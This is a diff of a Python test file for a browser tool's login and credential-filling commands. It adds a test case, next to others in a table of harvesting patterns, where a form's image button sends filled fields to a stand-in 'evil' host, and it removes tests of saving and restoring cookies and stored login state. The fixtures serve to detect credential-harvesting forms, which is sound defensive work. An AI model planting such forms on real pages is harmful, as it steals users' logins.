@@ -113,6 +113,11 @@ HARVESTS = {
         f"<form method=post>{FIELDS}<button formaction='{{evil}}/x'>Go</button></form>",
         "is sent to http://evil",
     ),
+    "picture for another site": (
+        "shop",
+        f"<form method=post><input type=image formaction='{{evil}}/x'>{FIELDS}</form>",
+        "is sent to http://evil",
+    ),
     "base of another site": ("shop", "<base href='{evil}/'>{form}", "is sent to http://evil"),
     "action hidden by a field": (
         "shop",
@@ -254,57 +259,6 @@ def test_a_terminal_asks_for_the_password_without_echo(browser):
     (row,) = json.loads(browser.post("login", "list", "--json"))["logins"]
     assert row["has"] == ["password", "one-time codes"]
     browser.ok("login", "rm", "asked")
-
-
-SHOWS = """<p id=said></p><script>said.textContent =
-  [document.cookie, localStorage.who, sessionStorage.step].join('|');</script>"""
-
-
-def test_a_login_state_is_kept_for_its_host_and_put_back(browser, site, shop):
-    site.page("/state/in", SHOWS, set_cookie="sid=s3ss10n-of-ada; Path=/")
-    site.page("/state/see", SHOWS)
-    other = host(site, "other")
-    browser.post("goto", f"{other}/state/see")
-    browser.post("js", "document.cookie = 'mine=1'; localStorage.who = 'grace'; 0")
-    browser.post("goto", f"{shop}/state/in")
-    browser.post("js", "localStorage.who = 'ada'; sessionStorage.step = '2'; 0")
-    browser.post("goto", f"{shop}/state/see")
-
-    saved = browser.ok("login", "save", "shop", "--json").json
-
-    folder = Path(browser.env["HOME"]) / ".gstack" / "logins"
-    assert (saved["cookies"], saved["stored"], saved["hosts"]) == (1, 2, ["shop.localhost"])
-    assert b"s3ss10n" not in (folder / "shop.state").read_bytes()
-    browser.post("js", "localStorage.clear(); sessionStorage.clear()")
-    browser.post("js", "document.cookie = 'sid=; Max-Age=0'")
-    browser.post("goto", f"{other}/state/see")
-    used = browser.ok("login", "use", "shop")
-    assert "1 cookie and 2 stored items" in used.out
-    assert "s3ss10n" not in used.out
-    assert browser.ok("text", "--reveal").page == "sid=s3ss10n-of-ada|ada|2"
-    browser.post("goto", f"{other}/state/see")
-    assert "mine=1|grace" in browser.post("text", "--reveal")
-    listed = json.loads(browser.post("login", "list", "--json"))["logins"]
-    assert [(row["host"], row["origin"]) for row in listed] == [("shop.localhost", shop)]
-    browser.post("login", "rm", "shop")
-    assert not (folder / "shop.state").exists()
-
-
-@pytest.mark.blank_tab
-def test_a_login_state_that_is_not_there_or_damaged_changes_nothing(browser, site, shop):
-    empty = browser.browse("login", "save", "none")
-    assert "this page has no host" in empty.err
-    browser.post("goto", f"{host(site, 'bare')}/state/nothing")
-    assert "there is no login state" in browser.browse("login", "save", "none").err
-    missing = browser.browse("login", "use", "shop")
-    assert (missing.code, "no saved login state called 'shop'" in missing.err) == (1, True)
-    assert "is for `browse login fill`" in missing.err
-    folder = Path(browser.env["HOME"]) / ".gstack" / "logins"
-    (folder / "cut.state").write_bytes((folder / "shop.login").read_bytes())
-    damaged = browser.browse("login", "use", "cut")
-    assert "changed, cut or renamed" in damaged.err
-    assert "unusable" in browser.post("login", "list")
-    browser.post("login", "rm", "cut")
 
 
 def test_a_field_is_filled_with_a_secret_that_no_word_holds(browser, site):
